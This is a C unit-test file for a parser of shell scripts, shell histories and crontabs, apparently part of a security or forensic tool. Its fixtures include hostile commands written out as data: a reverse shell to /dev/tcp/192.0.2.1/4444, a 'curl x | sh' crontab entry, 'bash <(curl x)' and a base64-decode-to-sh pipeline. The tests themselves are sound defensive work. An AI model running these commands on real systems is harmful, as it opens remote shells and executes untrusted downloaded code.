#include "parse/script/shell.h"

#include "check.h"
#include "parse/transcript.h"

#include <stdio.h>
#include <string.h>

struct run {
    struct arena *arena;
    struct coverage coverage;
    struct transcript transcript;
    struct budget budget;
    enum status status;
};

enum what {
    SCRIPT,
    HISTORY,
    CRONTAB,
};

static struct run *read_as(enum what what, struct bytes bytes, size_t window)
{
    static struct run run;
    static struct record_sink sink;
    run = (struct run){.arena = arena_new(64U << 20), .budget = budget_of(100000000)};
    run.transcript.pipelines = text_of_limit(1U << 22);
    run.transcript.lines = text_of_limit(1U << 22);
    run.transcript.runs = text_of_limit(1U << 22);
    sink = (struct record_sink){transcript_take, &run.transcript};
    coverage_init(&run.coverage, run.arena);
    struct parse parse = {.evidence = run.arena,
                          .batch = run.arena,
                          .budget = &run.budget,
                          .sink = &sink,
                          .coverage = &run.coverage};
    struct stream stream;
    assert_ok(stream_of_bytes(&stream, bytes, run.arena));
    if (window > 0) {
        stream.window_capacity = window;
    }
    run.status = what == SCRIPT    ? shell_read(&stream, &parse)
                 : what == HISTORY ? shell_read_history(&stream, &parse)
                                   : shell_read_crontab(&stream, &parse);
    return &run;
}

static void run_done(struct run *run)
{
    text_done(&run->transcript.pipelines);
    text_done(&run->transcript.lines);
    text_done(&run->transcript.runs);
    arena_free(run->arena);
}

static void assert_reads_as(enum what what, const char *script, const char *expected)
{
    struct run *run = read_as(what, bytes_of_text(script), 0);
    assert_ok(run->status);
    assert_string_equal(text_terminated(&run->transcript.pipelines), expected);
    run_done(run);
}

static void assert_reads(const char *script, const char *expected)
{
    assert_reads_as(SCRIPT, script, expected);
    struct run *run = read_as(SCRIPT, bytes_of_text(script), 3);
    assert_string_equal(text_terminated(&run->transcript.pipelines), expected);
    assert_string_equal(text_terminated(&run->transcript.runs), script);
    run_done(run);
}

static void assert_anomaly(const char *script, const char *what)
{
    struct run *run = read_as(SCRIPT, bytes_of_text(script), 0);
    assert_ok(run->status);
    assert_int_not_equal(run->coverage.anomaly_count, 0);
    assert_string_equal(run->coverage.anomalies[0].what, what);
    run_done(run);
}

static void assert_no_anomaly(const char *script)
{
    struct run *run = read_as(SCRIPT, bytes_of_text(script), 0);
    assert_ok(run->status);
    assert_int_equal(run->coverage.anomaly_count, 0);
    run_done(run);
}

static void words_lose_their_quotes(void **state)
{
    (void)state;
    assert_reads("a 'b c' \"d $e\" f\\ g h'i'\"j\"", "1 [a] [b c] [d $e] [f g] [hij]\n");
    assert_reads("$'a\\x62\\143\\n' $\"x\"", "1 [abc\n] [x]\n");
    assert_reads("a \\\n  b\\\nc", "1 [a] [bc]\n");
    assert_reads("echo \"a\\\"b\\c\\$d\"", "1 [echo] [a\"b\\c$d]\n");
    assert_reads("c''u\"r\"l ''", "1 [curl] []\n");
}

static void lists_are_split_into_pipelines(void **state)
{
    (void)state;
    assert_reads("a | b |& c && d || e; f & g\nh",
                 "1 [a] | [b] | [c]\n2 [d]\n3 [e]\n4 [f] &\n5 [g]\n6 [h]\n");
    assert_reads("a |\n\n  b # comment | c\n#d\ne#f", "1 [a] | [b]\n2 [e#f]\n");
    assert_reads("! a; time b\r\nc\r\n", "1 [a]\n2 [time] [b]\n3 [c]\n");
}

static void assignments_stand_apart(void **state)
{
    (void)state;
    assert_reads("A=1 B='2 3' c D=4", "1 =[A=1] =[B=2 3] [c] [D=4]\n");
    assert_reads("A=(x y\n z) b", "1 =[A=(x y  z)] [b]\n");
    assert_reads("'A=1' b; A+=2; =x", "1 [A=1] [b]\n2 =[A+=2]\n3 [=x]\n");
}

static void redirects_are_kept(void **state)
{
    (void)state;
    assert_reads("a >b 2>&1 <c >>d 3<>e &>f >|g >&h",
                 "1 [a] >[b] 2>&[1] <[c] >>[d] 3<>[e] >[f] >[g] >[h]\n");
    assert_reads("a <<<'x y' b2 >c", "1 [a] [b2] <<[x y] >[c]\n");
    assert_reads(">/var/log/x", "1 >[/var/log/x]\n");
    assert_reads("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                 "1 [bash] [-i] >[/dev/tcp/192.0.2.1/4444] 0>&[1]\n");
}

static void here_documents_come_after_the_line(void **state)
{
    (void)state;
    assert_reads("cat <<A | x <<-'B'; y\n1\nA\n\t2\n\tB\nz",
                 "1 [cat] <<[1\n] | [x] <<[2\n]\n2 [y]\n3 [z]\n");
    assert_reads("while read a; do b; done <<E\n$(c)\nE\nd",
                 "2<1.0 C> [read] [a]\n3<1.0 C> [b]\n4<1.0 S> [c]\n"
                 "1 [while] <<[$(c)\n]\n5 [d]\n");
    assert_reads("cat <<'E'\n$(c) `d`\nE\n", "1 [cat] <<[$(c) `d`\n]\n");
}

static void substitutions_come_before_their_holder(void **state)
{
    (void)state;
    assert_reads("a $(b | c \"$(d)\") `e \\`f\\``",
                 "3<2.1 S> [d]\n2<1.0 S> [b] | [c] [$(d)]\n5<4.0 S> [f]\n4<1.0 S> [e] [`f`]\n"
                 "1 [a] [$(b | c \"$(d)\")] [`e \\`f\\``]\n");
    assert_reads("bash <(curl x) >(y)",
                 "2<1.0 P> [curl] [x]\n3<1.0 P> [y]\n1 [bash] [<(curl x)] [>(y)]\n");
    assert_reads("a ${b:-$(c)} $((1+$(d))) $((e) | f)",
                 "2<1.0 S> [c]\n3<1.0 S> [d]\n5<4.0 C> [e]\n4<1.0 S> [(] | [f]\n"
                 "1 [a] [${b:-$(c)}] [$((1+$(d)))] [$((e) | f)]\n");
}

static void structure_is_passed_through(void **state)
{
    (void)state;
    assert_reads("if a; then b; elif c; then d; else e; fi | x",
                 "2<1.0 C> [a]\n3<1.0 C> [b]\n4<1.0 C> [c]\n5<1.0 C> [d]\n6<1.0 C> [e]\n"
                 "1 [if] | [x]\n");
    assert_reads("for i in 1 2; do a; done; for ((;;)); do b; done",
                 "2<1.0 C> [a]\n1 [for] [i] [in] [1] [2]\n4<3.0 C> [b]\n3 [for]\n");
    assert_reads("case $a in (x|y) b;; *) c;; esac; d",
                 "2<1.0 C> [b]\n3<1.0 C> [c]\n1 [case] [$a] [in]\n4 [d]\n");
    assert_reads("f() { a; }\nfunction g { b; }; (c; d) >e",
                 "3<2.0 C> [a]\n2<1.0 C> [{]\n1 [f]\n6<5.0 C> [b]\n5<4.0 C> [{]\n"
                 "4 [function] [g]\n8<7.0 C> [c]\n9<7.0 C> [d]\n7 [(] >[e]\n");
    assert_reads("[[ a && b ]] && c; ((x > 1)) && d",
                 "1 [[[] [a] [&] [&] [b] []]]\n2 [c]\n3 [((]\n4 [d]\n");
    assert_reads("echo done if then; a", "1 [echo] [done] [if] [then]\n2 [a]\n");
    assert_reads("done; fi; ) a }", "1 [a] [}]\n");
}

static void loops_are_counted(void **state)
{
    (void)state;
    struct run *run =
        read_as(SCRIPT, bytes_of_text("while :; do\n  for a in b; do c; done\ndone\nd"), 0);
    assert_string_equal(text_terminated(&run->transcript.lines),
                        "6+1 line 1 loops 1\n29+1 line 2 loops 2\n14+22 line 2 loops 1\n"
                        "0+41 line 1 loops 0\n42+1 line 4 loops 0\n");
    run_done(run);
}

static void text_for_an_interpreter_is_read(void **state)
{
    (void)state;
    assert_reads("sh -c 'a | b'", "2<1.0 N> [a] | [b]\n1 [sh] [-c] [a | b]\n");
    assert_reads("sudo -u x env A=1 nohup /bin/bash -lc \"a 'b c'\" z",
                 "2<1.0 N> [a] [b c]\n1 [sudo] [-u] [x] [env] [A=1] [nohup] [/bin/bash] [-lc] "
                 "[a 'b c'] [z]\n");
    assert_reads("runuser x -c 'a b'", "2<1.0 N> [a] [b]\n1 [runuser] [x] [-c] [a b]\n");
    assert_reads("flock f -c 'a b'", "2<1.0 N> [a] [b]\n1 [flock] [f] [-c] [a b]\n");
    assert_reads("script -c 'a b' f", "2<1.0 N> [a] [b]\n1 [script] [-c] [a b] [f]\n");
    assert_reads("env -S 'a b'", "2<1.0 N> [a] [b]\n1 [env] [-S] [a b]\n");
    assert_reads("trap 'a b' EXIT", "2<1.0 N> [a] [b]\n1 [trap] [a b] [EXIT]\n");
    assert_reads("eval a \"$(b)\"", "2<1.0 S> [b]\n3<1.0 N> [a] [$(b)]\n1 [eval] [a] [$(b)]\n");
    assert_reads("su - x -c 'a'", "2<1.0 N> [a]\n1 [su] [-] [x] [-c] [a]\n");
    assert_reads("echo 'a b' | sh", "2<1.1 N> [a] [b]\n1 [echo] [a b] | [sh]\n");
    assert_reads("sh <<E\na\nE\n", "2<1.0 N> [a]\n1 [sh] <<[a\n]\n");
    assert_reads("cat <<E | bash -s x\na\nE\n",
                 "2<1.1 N> [a]\n1 [cat] <<[a\n] | [bash] [-s] [x]\n");
    assert_reads("bash -c \"bash -c 'bash -c a'\"",
                 "4<3.0 N> [a]\n3<2.0 N> [bash] [-c] [a]\n2<1.0 N> [bash] [-c] [bash -c a]\n"
                 "1 [bash] [-c] [bash -c 'bash -c a']\n");
    assert_reads("command -v sh -c; find . -exec sh -c 'a' \\;",
                 "1 [command] [-v] [sh] [-c]\n3<2.0 N> [a]\n"
                 "2 [find] [.] [-exec] [sh] [-c] [a] [;]\n");
}

static void nested_text_keeps_its_place(void **state)
{
    (void)state;
    struct run *run = read_as(SCRIPT, bytes_of_text("x\nsh -c 'a;\nbc'; sh -c \"d\\\"e\""), 0);
    assert_string_equal(text_terminated(&run->transcript.lines),
                        "0+1 line 1 loops 0\n9+1 line 2 loops 0\n12+2 line 3 loops 0\n"
                        "2+13 line 2 loops 0\n23+6 line 3 loops 0\n17+12 line 3 loops 0\n");
    run_done(run);
}

static void what_is_not_closed_is_kept(void **state)
{
    (void)state;
    assert_reads("a 'b c", "1 [a] [b c]\n");
    assert_reads("a $(b", "2<1.0 S> [b]\n1 [a] [$(b]\n");
    assert_reads("cat <<E\nb", "1 [cat] <<[b]\n");
    assert_reads("while a; do b\n", "2<1.0 C> [a]\n3<1.0 C> [b]\n1 [while]\n");
    assert_reads("if a; then { b; fi; c",
                 "2<1.0 C> [a]\n4<3.0 C> [b]\n3<1.0 C> [{]\n1 [if]\n5 [c]\n");
    assert_anomaly("a 'b", "a quote is not closed");
    assert_anomaly("a `b", "a substitution is not closed");
    assert_anomaly("a <<E\n", "a here-document is not closed");
    assert_anomaly("if a; then", "a group, loop or branch is not closed");
    assert_no_anomaly("case $1 in a) b ;; esac\nif x; then y; fi\nf() { z; }\ncat <<E\nE\n");
}

static void long_words_are_cut_and_the_rest_is_read(void **state)
{
    (void)state;
    static char script[700000];
    memcpy(script, "echo '", 6);
    memset(script + 6, 'A', 600000);
    static const char tail[] = "' | base64 -d | sh\nz";
    memcpy(script + 600006, tail, sizeof tail);
    struct run *run = read_as(SCRIPT, bytes_of_text(script), 0);
    assert_ok(run->status);
    struct bytes got = text_bytes(&run->transcript.pipelines);
    assert_true(bytes_contains(got, "] | [base64] [-d] | [sh]\n2 [z]\n"));
    assert_true(got.size < 20000);
    run_done(run);
}

static void hostile_depth_ends_well(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "$(",          "`",    "\"$(",          "(",      "{ ",    "<(",   "${a:-",
        "if ",         "$((",  "a=(",           "while ", "[[ ",   "f() ", "sh -c \"",
        "eval 'eval ", "<<A ", "case a in b) ", "\"`",    "a=(\"", "((",   "for a in $("};
    static char script[200000];
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        size_t size = strlen(pieces[i]);
        size_t used = 0;
        while (used + size < sizeof script - 1) {
            memcpy(script + used, pieces[i], size);
            used += size;
        }
        script[used] = '\0';
        struct run *run = read_as(SCRIPT, bytes_of_text(script), 0);
        assert_ok(run->status);
        assert_true(run->budget.steps_left > 90000000);
        run_done(run);
    }
}

static void steps_are_counted(void **state)
{
    (void)state;
    struct arena *arena = arena_new(64U << 20);
    struct transcript transcript = {.pipelines = text_of_limit(1000),
                                    .lines = text_of_limit(1000),
                                    .runs = text_of_limit(1000)};
    struct record_sink sink = {transcript_take, &transcript};
    struct budget budget = budget_of(3);
    struct coverage coverage;
    coverage_init(&coverage, arena);
    struct parse parse = {arena, arena, &budget, &sink, &coverage, 0, BYTES_NONE, NULL};
    struct stream stream;
    assert_ok(stream_of_bytes(&stream, bytes_of_text("a b c"), arena));
    assert_status(shell_read(&stream, &parse), STATUS_LIMIT);
    arena_free(arena);
}

static void histories_have_times(void **state)
{
    (void)state;
    assert_reads_as(HISTORY, "#1700000000\na b\n# note\nc 'd\ne\n: 1700000001:0;f g\n",
                    "1 [a] [b]\n1 [c] [d]\n1 [e]\n1 [f] [g]\n");
    struct run *run = read_as(HISTORY, bytes_of_text("#1700000000\na b\n"), 0);
    assert_true(run->coverage.first.is_known);
    assert_int_equal(run->coverage.first.ns / MOMENT_SECOND_NS, 1700000000);
    assert_string_equal(text_terminated(&run->transcript.lines), "2+2 line 1 loops 0\n");
    run_done(run);
}

static void crontabs_have_commands(void **state)
{
    (void)state;
    assert_reads_as(CRONTAB,
                    "SHELL=/bin/sh\n# m h\n*/5 * * * * root  curl x | sh\n@reboot /a/b c\n"
                    "17 * * * mon backup /usr/bin/x\n1 2 3 4\n0 0 * * * date\n",
                    "1 [curl] [x] | [sh]\n1 [/a/b] [c]\n1 [/usr/bin/x]\n1 [date]\n");
}

static void files_are_told_by_their_first_bytes(void **state)
{
    (void)state;
    assert_true(shell_matches(bytes_of_text("#!/bin/sh\n"), BYTES_NONE));
    assert_true(shell_matches(bytes_of_text("#! /usr/bin/env -S bash -e\n"), BYTES_NONE));
    assert_true(shell_matches(bytes_of_text("#!/bin/busybox sh\n"), BYTES_NONE));
    assert_false(shell_matches(bytes_of_text("#!/usr/bin/python3\n"), bytes_of_text("a.sh")));
    assert_true(shell_matches(bytes_of_text("echo\n"), bytes_of_text("a.sh")));
    assert_true(shell_matches(bytes_of_text("alias x=y\n"), bytes_of_text(".bashrc")));
    assert_false(shell_matches(bytes_of_text("echo\n"), bytes_of_text("notes.txt")));
    assert_true(shell_history_matches(bytes_of_text("ls\n"), bytes_of_text(".bash_history")));
    assert_true(shell_history_matches(bytes_of_text("#1700000000\nls\n"), BYTES_NONE));
    assert_false(shell_history_matches(bytes_of_text("# a note\nls\n"), BYTES_NONE));
    assert_true(shell_crontab_matches(bytes_of_text("# x\nA=b\n* * * * * ls\n"), BYTES_NONE));
    assert_true(shell_crontab_matches(bytes_of_text("@daily ls\n"), BYTES_NONE));
    assert_false(shell_crontab_matches(bytes_of_text("a b c\n"), BYTES_NONE));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(words_lose_their_quotes),
        cmocka_unit_test(lists_are_split_into_pipelines),
        cmocka_unit_test(assignments_stand_apart),
        cmocka_unit_test(redirects_are_kept),
        cmocka_unit_test(here_documents_come_after_the_line),
        cmocka_unit_test(substitutions_come_before_their_holder),
        cmocka_unit_test(structure_is_passed_through),
        cmocka_unit_test(loops_are_counted),
        cmocka_unit_test(text_for_an_interpreter_is_read),
        cmocka_unit_test(nested_text_keeps_its_place),
        cmocka_unit_test(what_is_not_closed_is_kept),
        cmocka_unit_test(long_words_are_cut_and_the_rest_is_read),
        cmocka_unit_test(hostile_depth_ends_well),
        cmocka_unit_test(steps_are_counted),
        cmocka_unit_test(histories_have_times),
        cmocka_unit_test(crontabs_have_commands),
        cmocka_unit_test(files_are_told_by_their_first_bytes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
